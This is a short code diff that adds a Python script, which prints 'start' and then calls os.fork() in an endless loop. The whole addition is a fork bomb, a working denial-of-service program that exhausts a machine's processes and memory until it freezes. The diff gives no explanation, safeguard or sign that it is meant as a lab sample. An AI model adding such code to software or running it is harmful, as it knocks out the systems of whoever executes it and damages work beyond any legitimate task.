@@ -1,0 +1,4 @@
+import os
+print("start")
+while True:
+    os.fork()
